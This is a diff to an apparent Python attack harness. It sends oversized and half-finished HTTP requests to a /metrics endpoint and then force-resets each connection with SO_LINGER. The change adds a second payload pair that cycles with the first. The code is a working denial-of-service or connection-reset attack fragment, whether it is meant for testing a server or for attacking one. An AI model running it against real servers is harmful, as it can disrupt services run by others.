@@ -26,6 +26,7 @@ PATIENCE: Final = 5.0
 _LINGER: Final = struct.pack("ii", 1, 0)  # so that close() sends RST
 
 LARGE_HEAD: Final = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 14_000 + b"\r\n\r\n"
+SMALL_HEAD: Final = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 10_000 + b"\r\n\r\n"
 HALF_HEAD: Final = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 12_000
 
 
@@ -58,12 +59,17 @@ def connected(host: str, port: int, source: str) -> socket.socket:
 
 
 def resets(host: str, port: int, source: str, attack: Attack) -> None:
-    """A large request and half of another one, the answer read, and the connection reset."""
-    while not attack.over.is_set():
+    """A large request and half of another one, the answer read, and the connection reset.
+
+    Some come in one piece, however little is read at a time: then nothing comes after the answer.
+    """
+    for sent in itertools.cycle((LARGE_HEAD + HALF_HEAD, SMALL_HEAD + HALF_HEAD[:4_000])):
+        if attack.over.is_set():
+            return
         with suppress(OSError):
             connection = connected(host, port, source)
             with connection:
-                connection.sendall(LARGE_HEAD + HALF_HEAD)
+                connection.sendall(sent)
                 attack.done[status(connection.recv(4096))] += 1
                 connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _LINGER)
 
